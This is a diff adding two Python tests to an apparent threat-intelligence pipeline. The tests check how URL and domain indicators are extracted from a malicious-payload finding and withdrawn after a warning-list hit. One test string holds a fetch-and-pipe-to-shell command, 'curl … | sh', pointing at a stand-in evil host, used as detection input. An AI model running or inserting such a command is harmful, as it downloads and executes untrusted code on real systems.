@@ -589,6 +589,35 @@ def test_an_indicator_of_hygiene_says_so_in_its_record_and_a_header():
     assert dict(sent.headers)["ce_category"] == b"hygiene"
 
 
+def test_what_a_hostile_payload_speaks_to_becomes_indicators_that_live_with_it():
+    flow = Flow()
+    payload = finding("malicious_payload", "a")
+    text = "('curl https://cdn.evil.example/x | sh; wget https://github.com/evil/y',)"
+    flow.found(msgspec.structs.replace(payload, evidence={**payload.evidence, "arguments": text}))
+    network = [one for one in flow.iocs.values() if one.indicator.type in {"url", "domain"}]
+    dispositions = {one.indicator.value: one.indicator.disposition for one in network}
+    assert dispositions == {
+        "https://cdn.evil.example/x": "detect",
+        "cdn.evil.example": "detect",
+        "https://github.com/evil/y": "detect",
+        "github.com": "context",
+    }
+    assert not any("http" in one.description for one in network)
+    assert {one.evidence["found_in"] for one in network} == {payload.indicator.key}
+    assert {one.tenant for one in network} == {"a"}
+    flow.fact(IntelFact(key=f"sha256:{BAD}", kind=IntelKind.WARNINGLIST, sources=("list",)))
+    network = [one for one in flow.iocs.values() if one.indicator.type in {"url", "domain"}]
+    assert {one.status for one in network} == {"withdrawn"}
+
+
+def test_what_is_not_hostile_names_no_network_indicators():
+    flow = Flow()
+    weak = finding("suspicious_code", "a")
+    text = "requests.get('https://data.acme.example/x')"
+    flow.found(msgspec.structs.replace(weak, severity=Severity.MEDIUM, evidence={"code": text}))
+    assert {one.indicator.type for one in flow.iocs.values()} == {weak.indicator.type}
+
+
 def test_prevalence_is_told_from_three_other_tenants_on():
     flow = Flow()
     for number, tenant in enumerate("abcd"):
